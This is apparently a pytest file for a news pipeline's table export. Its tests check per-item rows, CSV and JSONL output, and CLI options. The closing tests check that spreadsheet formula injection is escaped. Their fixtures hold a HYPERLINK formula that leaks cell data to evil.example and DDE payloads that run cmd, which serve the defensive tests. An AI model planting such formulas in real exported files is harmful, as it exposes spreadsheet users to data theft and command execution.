import csv
import json

import pytest
from typer.testing import CliRunner

from pipeline.cli import app
from pipeline.export import TABLES, TableError, read_records, table_for_path, table_rows, write_table
from pipeline.export.tables import ARTICLE_COLUMNS, escape_formula
from tests.export.test_reading import HAND_TEXT, corpus_records_path, hand_record

runner = CliRunner()

ITEMS = {"quotes": "quotes", "claims": "claims", "speakers": "speakers", "actors": "actors"}


@pytest.mark.parametrize("table", sorted(TABLES))
def test_export_tables_one_row_per_item_with_its_article(table):
    records = read_records(corpus_records_path())
    rows = table_rows(records, table)
    assert len(rows) == sum(len(getattr(r, ITEMS[table])) for r in records)
    by_id = {r.doc_id: r for r in records}
    for row in rows:
        record = by_id[row["doc_id"]]
        assert row["title"] == record.title and row["url"] == record.source.url and row["published"] == record.published
        # the offsets point into the record's text and the evidence holds the item
        item_text = record.text[row["start"] : row["end"]]
        assert item_text and item_text in row["evidence"]
        assert row["evidence"] in record.text


def test_export_tables_claim_evidence_is_the_claims_evidence():
    record = hand_record(HAND_TEXT)
    rows = table_rows([record], "claims")
    assert [row["evidence"] for row in rows] == [c.evidence.text for c in record.claims]
    assert rows[0]["stance"] == "hedged" and rows[0]["country"] == "CN" and rows[0]["claimant_name"] == "Dana Whitfield"
    targeting = next(row for row in rows if row["kind"] == "targeting")
    assert (targeting["country"], targeting["target"], targeting["target_country"]) == ("CN", "utilities", "US")


@pytest.mark.parametrize("table", sorted(TABLES))
def test_export_tables_csv_reads_back_with_the_header(tmp_path, table):
    path = tmp_path / f"{table}.csv"
    count = write_table([hand_record(HAND_TEXT)], path, table=table, fmt="csv")
    with path.open(encoding="utf-8", newline="") as f:
        reader = csv.DictReader(f)
        assert tuple(reader.fieldnames) == TABLES[table][0]
        assert tuple(reader.fieldnames[: len(ARTICLE_COLUMNS)]) == ARTICLE_COLUMNS
        rows = list(reader)
    assert len(rows) == count > 0
    assert rows[0]["doc_id"] == "hand0001" and rows[0]["url"] == "https://news.example/hand"


def test_export_tables_csv_joins_lists_and_jsonl_keeps_them(tmp_path):
    record = hand_record(HAND_TEXT)
    write_table([record], tmp_path / "actors.csv", table="actors", fmt="csv")
    write_table([record], tmp_path / "actors.jsonl", table="actors", fmt="jsonl")
    with (tmp_path / "actors.csv").open(encoding="utf-8", newline="") as f:
        assert next(csv.DictReader(f))["aliases"] == "Vanguard Panda"
    row = json.loads((tmp_path / "actors.jsonl").read_text(encoding="utf-8").splitlines()[0])
    assert row["aliases"] == ["Vanguard Panda"] and row["mentions"] == 1


@pytest.mark.parametrize(
    "name, expected",
    [("quotes.csv", ("quotes", "csv")), ("claims.jsonl", ("claims", "jsonl")), ("actors.CSV", ("actors", "csv"))],
)
def test_export_tables_path_names_table_and_format(tmp_path, name, expected):
    assert table_for_path(tmp_path / name) == expected


@pytest.mark.parametrize("name", ["things.csv", "quotes.xlsx"])
def test_export_tables_unknown_table_or_format_raises(tmp_path, name):
    with pytest.raises(TableError):
        table_for_path(tmp_path / name)


@pytest.mark.parametrize(
    "target", ["quotes.csv", "claims.csv", "speakers.csv", "actors.csv", "quotes.jsonl", "claims.jsonl"]
)
def test_export_cli_writes_each_table(tmp_path, target):
    result = runner.invoke(app, ["export", str(corpus_records_path()), "--to", str(tmp_path / target)])
    assert result.exit_code == 0, result.output
    lines = (tmp_path / target).read_text(encoding="utf-8").splitlines()
    assert len(lines) > 1


def test_export_cli_table_option_for_other_file_names(tmp_path):
    out = tmp_path / "mine.csv"
    result = runner.invoke(app, ["export", str(corpus_records_path()), "--to", str(out), "--table", "claims"])
    assert result.exit_code == 0, result.output
    assert out.read_text(encoding="utf-8").startswith("doc_id,")


def test_export_cli_mistakes_are_usage_errors(tmp_path):
    missing = runner.invoke(app, ["export", str(tmp_path / "absent.jsonl"), "--to", str(tmp_path / "quotes.csv")])
    assert missing.exit_code == 2 and "no records file" in missing.output
    unnamed = runner.invoke(app, ["export", str(corpus_records_path()), "--to", str(tmp_path / "x.csv")])
    assert unnamed.exit_code == 2


@pytest.mark.parametrize("table", sorted(TABLES))
def test_export_tables_item_columns_never_reuse_article_columns(table):
    columns, _ = TABLES[table]
    assert len(set(columns)) == len(columns)
    row = table_rows([hand_record(HAND_TEXT)], table)[0]
    assert tuple(row) == columns and row["title"] == "Hand-made article"


#: Text cells a spreadsheet would run as a formula (OWASP, "CSV Injection"), and one it would not.
FORMULA_TITLE = '=HYPERLINK("https://evil.example/?x="&A1,"click")'
FORMULA_TEXT = "-2+3+cmd|' /C calc'!A0 said Volt Typhoon, Dana Whitfield said: \"they are patient\".\n\nThe Chinese embassy denied it."


def formula_record():
    record = hand_record(FORMULA_TEXT, title=FORMULA_TITLE)
    return record.model_copy(update={"site": "@SUM(1+1)*cmd|' /C calc'!A0"})


def read_csv(path):
    with path.open(encoding="utf-8", newline="") as f:
        return list(csv.DictReader(f))


@pytest.mark.parametrize(
    ("cell", "escaped"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Volt Typhoon", "Volt Typhoon"),
        (" =1", " =1"),
        ("", ""),
        (-1, -1),
        (0.5, 0.5),
        (None, None),
    ],
)
def test_export_tables_escape_formula(cell, escaped):
    assert escape_formula(cell) == escaped


def test_export_tables_csv_neutralises_formulas_by_default(tmp_path):
    record = formula_record()
    write_table([record], tmp_path / "claims.csv", table="claims", fmt="csv")
    row = read_csv(tmp_path / "claims.csv")[0]
    assert row["title"] == "'" + FORMULA_TITLE
    assert row["site"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert row["evidence"].startswith("'-2+3+cmd|")
    assert row["start"] == "0" and row["confidence"] == "0.5"  # numbers are never changed
    # JSONL is not for spreadsheets: written as is
    write_table([record], tmp_path / "claims.jsonl", table="claims", fmt="jsonl")
    first = json.loads((tmp_path / "claims.jsonl").read_text(encoding="utf-8").splitlines()[0])
    assert first["title"] == FORMULA_TITLE and first["evidence"].startswith("-2+3")


def test_export_tables_escaping_can_be_turned_off(tmp_path):
    write_table([formula_record()], tmp_path / "quotes.csv", table="quotes", fmt="csv", escape_formulas=False)
    row = read_csv(tmp_path / "quotes.csv")[0]
    assert row["title"] == FORMULA_TITLE and row["site"].startswith("@SUM")


def test_export_cli_escapes_formulas_unless_told_not_to(tmp_path):
    records = tmp_path / "r.jsonl"
    records.write_text(formula_record().model_dump_json() + "\n", encoding="utf-8")
    escaped = runner.invoke(app, ["export", str(records), "--to", str(tmp_path / "quotes.csv")])
    assert escaped.exit_code == 0, escaped.output
    assert read_csv(tmp_path / "quotes.csv")[0]["title"] == "'" + FORMULA_TITLE
    raw = runner.invoke(
        app, ["export", str(records), "--to", str(tmp_path / "raw.csv"), "--table", "quotes", "--no-escape-formulas"]
    )
    assert raw.exit_code == 0, raw.output
    assert read_csv(tmp_path / "raw.csv")[0]["title"] == FORMULA_TITLE
